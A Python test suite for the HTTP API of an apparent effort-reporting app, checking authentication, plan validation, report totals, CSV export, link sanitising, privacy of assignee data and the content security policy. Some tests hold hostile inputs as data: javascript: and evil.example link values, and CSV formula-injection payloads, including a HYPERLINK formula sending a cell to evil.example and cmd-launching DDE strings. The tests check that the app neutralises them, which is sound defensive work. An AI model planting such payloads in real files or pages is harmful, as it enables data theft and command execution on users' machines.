"""The HTTP API through the real path: items stored, plan applied, re-resolved, then read."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient

from tests.factories import T0, VALID, make_item
from tests.support import auth
from v2mom.app.factory import create_app
from v2mom.mapping.plan import load_plan
from v2mom.settings import Settings
from v2mom.store.database import Database
from v2mom.store.resolution.run import remap


@pytest.fixture
def client(seeded: Database) -> Iterator[TestClient]:
    with TestClient(create_app(Settings(), seeded)) as test_client:
        yield test_client


def test_healthz_needs_no_token(client: TestClient) -> None:
    assert client.get("/healthz").json() == {"status": "ok"}


@pytest.mark.parametrize(
    "path",
    [
        "/api/reports/effort-by-value",
        "/api/reports/effort-by-value.csv",
        "/api/reports/flags",
        "/api/items/jira/ONB-1",
        "/api/plan",
    ],
)
def test_every_api_route_needs_a_token(client: TestClient, seeded: Database, path: str) -> None:
    assert client.get(path).status_code == 401
    assert client.get(path, headers=auth("v2m_wrong")).status_code == 401
    assert client.get(path, headers={"Authorization": "Basic abc"}).status_code == 401
    viewer = seeded.tokens.create("viewer", "pm")
    assert client.get(path, headers=auth(viewer)).status_code == 200


def test_viewer_cannot_write_admin_can(client: TestClient, seeded: Database) -> None:
    viewer, admin = seeded.tokens.create("viewer", "pm"), seeded.tokens.create("admin", "ops")
    document = client.get("/api/plan", headers=auth(viewer)).json()
    assert client.put("/api/plan", json=document, headers=auth(viewer)).status_code == 403
    assert client.put("/api/plan", json=document).status_code == 401
    answer = client.put("/api/plan", json=document, headers=auth(admin))
    assert answer.status_code == 200, answer.text
    assert answer.json()["changes"] == ["no changes"]


def test_invalid_plan_is_rejected_with_every_problem_and_nothing_stored(
    client: TestClient, seeded: Database
) -> None:
    admin = seeded.tokens.create("admin", "ops")
    document = client.get("/api/plan", headers=auth(admin)).json()
    document["methods"][0]["values"] = ["speed"]
    answer = client.put("/api/plan", json=document, headers=auth(admin))
    assert answer.status_code == 422
    assert "plan: methods[0].values[0]: unknown value 'speed'" in [d["msg"] for d in answer.json()["detail"]]
    stored = seeded.plans.current()
    assert stored is not None
    assert stored.methods[0].values == ("customer-first",)


def test_report_counts_effort_once_and_sums_to_total(client: TestClient, seeded: Database) -> None:
    token = seeded.tokens.create("viewer", "pm")
    report = client.get("/api/reports/effort-by-value", headers=auth(token)).json()
    # Epic's own 40 points don't count (its stories carry points); 5+3 go to customer-first
    # through the epic's method, 2 to reliability by label, 8 untagged, 1 orphaned+untagged.
    values = {v["id"]: v["effort"] for v in report["values"]}
    assert values == {"customer-first": 8.0, "reliability": 2.0}
    assert report["untagged"] == {"effort": 9.0, "share": round(9 / 19, 4), "items": 2}
    assert report["orphaned"]["effort"] == 1.0
    assert report["total"] == {"effort": 19.0, "items": 6}
    assert (
        sum(v["effort"] for v in report["values"]) + report["untagged"]["effort"] == report["total"]["effort"]
    )
    cf = next(v for v in report["values"] if v["id"] == "customer-first")
    assert cf["target_share"] == 0.4
    assert {m["id"]: m["effort"] for m in cf["methods"]}["self-serve-onboarding"] == 8.0


def test_report_filters(client: TestClient, seeded: Database) -> None:
    token = seeded.tokens.create("viewer", "pm")

    def get(**params: str) -> dict:  # type: ignore[type-arg]
        answer = client.get("/api/reports/effort-by-value", params=params, headers=auth(token))
        assert answer.status_code == 200, answer.text
        return answer.json()  # type: ignore[no-any-return]

    assert get(state="done")["total"] == {"effort": 13.0, "items": 2}
    assert get(state="open")["total"]["effort"] == 6.0
    assert get(measure="count")["total"] == {"effort": 5.0, "items": 6}
    ranged = get(**{"from": (T0 + timedelta(days=10)).date().isoformat()})
    assert ranged["total"]["effort"] == 8.0
    assert ranged["from"] == (T0 + timedelta(days=10)).date().isoformat()
    assert get(tracker="linear")["total"]["effort"] == 0.0
    bad = client.get("/api/reports/effort-by-value", params={"measure": "weeks"}, headers=auth(token))
    assert bad.status_code == 422
    backwards = client.get(
        "/api/reports/effort-by-value.csv",
        params={"from": "2026-11-02", "to": "2026-11-01"},
        headers=auth(token),
    )
    assert backwards.status_code == 422
    assert "from: must not be after 'to'" in backwards.text


def test_csv_has_the_same_numbers(client: TestClient, seeded: Database) -> None:
    token = seeded.tokens.create("viewer", "pm")
    body = client.get("/api/reports/effort-by-value.csv", headers=auth(token)).text
    lines = body.splitlines()
    assert lines[0].startswith("row,value_id,value_name")
    assert any(line.startswith("value,customer-first,") and ",8.0," in line for line in lines)
    assert any(line.startswith("total,") and ",19.0," in line for line in lines)


def test_flags_sorted_by_effort_with_reasons_and_cursor(client: TestClient, seeded: Database) -> None:
    token = seeded.tokens.create("viewer", "pm")
    first = client.get(
        "/api/reports/flags", params={"kind": "untagged", "limit": 1}, headers=auth(token)
    ).json()
    assert [i["key"] for i in first["items"]] == ["ONB-5"]
    assert first["items"][0]["effort"] == 8.0
    assert first["next_cursor"]
    second = client.get(
        "/api/reports/flags",
        params={"kind": "untagged", "limit": 1, "cursor": first["next_cursor"]},
        headers=auth(token),
    ).json()
    assert [i["key"] for i in second["items"]] == ["ONB-6"]
    assert second["next_cursor"] is None
    orphaned = client.get("/api/reports/flags", params={"kind": "orphaned"}, headers=auth(token)).json()
    assert [i["key"] for i in orphaned["items"]] == ["ONB-6"]
    assert any("999" in reason for reason in orphaned["items"][0]["reasons"])
    bad = client.get("/api/reports/flags", params={"cursor": "nonsense!"}, headers=auth(token))
    assert bad.status_code == 422


def test_item_explains_inheritance(client: TestClient, seeded: Database) -> None:
    token = seeded.tokens.create("viewer", "pm")
    document = client.get("/api/items/jira/onb-2", headers=auth(token)).json()
    assert document["key"] == "ONB-2"
    assert document["resolution"]["values"] == {"customer-first": 1.0}
    assert any("jira:ONB-1" in line for line in document["explanation"])
    assert client.get("/api/items/jira/NOPE-1", headers=auth(token)).status_code == 404


def test_item_links_are_http_or_https_only(client: TestClient, seeded: Database) -> None:
    """A tracker's ``javascript:`` URL is dropped when the item is read in, and one stored before
    links were checked is served as null: the dashboard renders these as links."""
    fresh = make_item("16", key="ONB-7", points=1.0, url="javascript:alert(document.cookie)")
    assert fresh.url is None
    legacy = make_item("17", key="ONB-8", points=1.0).model_copy(update={"url": "JavaScript:alert(1)"})
    relative = make_item("18", key="ONB-9", points=1.0).model_copy(update={"url": "//evil.example/x"})
    kept = make_item("19", key="ONB-10", points=1.0, url="https://example.atlassian.net/browse/ONB-10")
    seeded.items.upsert([fresh, legacy, relative, kept])
    remap(seeded)
    token = seeded.tokens.create("viewer", "pm")
    flags = client.get("/api/reports/flags", params={"kind": "untagged", "limit": 50}, headers=auth(token))
    urls = {item["key"]: item["url"] for item in flags.json()["items"]}
    assert urls["ONB-7"] is None
    assert urls["ONB-8"] is None
    assert urls["ONB-9"] is None
    assert urls["ONB-10"] == "https://example.atlassian.net/browse/ONB-10"
    for key in ("ONB-7", "ONB-8", "ONB-9"):
        document = client.get(f"/api/items/jira/{key}", headers=auth(token)).json()
        assert document["item"]["url"] is None
    assert "javascript" not in flags.text.lower()


def test_an_items_assignee_and_start_are_in_no_answer(client: TestClient, seeded: Database) -> None:
    """Who holds an item is person-level data the store keeps for its own computations: the item's
    document, the flag and value listings and the CSV never carry the account id (nor, not being part
    of the published item document, the start)."""
    account = "557058:0e5c4bd2-private-account"
    assigned = [
        make_item("20", key="ONB-20", points=2.0, assignee=account, started_at=T0 - timedelta(days=3)),
        make_item("21", key="ONB-21", parent_id="10", points=1.0, assignee=account),
    ]
    seeded.items.upsert(assigned)
    remap(seeded)
    stored = seeded.items.by_id("jira", "20")
    assert stored is not None
    assert stored.item.assignee == account  # kept, for the store's computations
    token = seeded.tokens.create("viewer", "pm")
    answers = [
        client.get(f"/api/items/jira/{key}", headers=auth(token)) for key in ("ONB-20", "onb-21", "ONB-1")
    ]
    answers += [
        client.get("/api/reports/flags", params={"limit": 50}, headers=auth(token)),
        client.get("/api/reports/values/customer-first/items", headers=auth(token)),
        client.get("/api/reports/effort-by-value", headers=auth(token)),
        client.get("/api/reports/effort-by-value.csv", headers=auth(token)),
    ]
    for answer in answers:
        assert answer.status_code == 200, answer.text
        assert "0e5c4bd2" not in answer.text, answer.request.url
    document = answers[0].json()
    assert document["key"] == "ONB-20"
    assert not {"assignee", "started_at"} & set(document["item"])
    assert "ONB-20" in answers[3].text  # the untagged item is listed, without its assignee


HOSTILE_NAMES = {
    "Customer-first thinking": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "Reliability": "+cmd|' /C calc'!A0",
    "Launch self-serve onboarding": "-2+3+cmd|' /C calc'!A0",
    "SLO program": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize("lead", ["", "\t", "\r"])
def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(
    client: TestClient, seeded: Database, lead: str
) -> None:
    """Plan names are anyone's text: a cell a spreadsheet would run as a formula is quoted with a
    leading "'" (OWASP), a tab or carriage return before it too; a negative effort stays a number."""
    plan = VALID
    for name, hostile in HOSTILE_NAMES.items():
        plan = plan.replace(f"name: {name}\n", f"name: {json.dumps(lead + hostile)}\n")
    seeded.plans.save(load_plan(plan), actor="test")
    seeded.items.upsert([make_item("20", key="ONB-20", labels=("value:reliability",), points=-50.0)])
    remap(seeded)
    token = seeded.tokens.create("viewer", "pm")
    body = client.get("/api/reports/effort-by-value.csv", headers=auth(token)).text
    rows = list(csv.reader(io.StringIO(body, newline="")))  # a cell may hold a carriage return
    names = {cell for row in rows[1:] for cell in (row[2], row[4]) if cell}
    assert names - {"Tagged with the value directly"} == {
        "'" + lead + hostile for hostile in HOSTILE_NAMES.values()
    }
    reliability = next(row for row in rows if row[:2] == ["value", "reliability"])
    assert float(reliability[5]) < 0
    assert reliability[5].startswith("-")  # a plain negative number, not "'-..."
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:5])


@pytest.mark.parametrize("path", ["/docs", "/redoc", "/docs/oauth2-redirect"])
def test_there_is_no_api_docs_page_to_load_assets_from_a_cdn(client: TestClient, path: str) -> None:
    answer = client.get(path)
    assert answer.status_code == 404
    assert "cdn" not in answer.text


def test_the_openapi_document_describes_the_api(client: TestClient) -> None:
    document = client.get("/openapi.json").json()
    assert document["info"]["title"] == "v2mom-sync"
    assert "/api/reports/effort-by-value" in document["paths"]


def test_every_html_page_carries_the_csp_and_loads_nothing_off_site(
    client: TestClient, seeded: Database
) -> None:
    """Whatever serves HTML (the dashboard, and any page a framework adds) runs under the CSP and
    takes its scripts and styles from the app itself."""
    token = seeded.tokens.create("viewer", "pm")
    paths = [
        route.path
        for route in client.app.routes
        if "GET" in (getattr(route, "methods", None) or ()) and "{" not in route.path
    ]
    pages = 0
    for path in paths:
        answer = client.get(path, headers=auth(token))
        if answer.headers.get("content-type", "").startswith("text/html"):
            pages += 1
            assert "default-src 'self'" in answer.headers.get("content-security-policy", ""), path
            assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", answer.text), path
    assert pages >= 1  # the dashboard
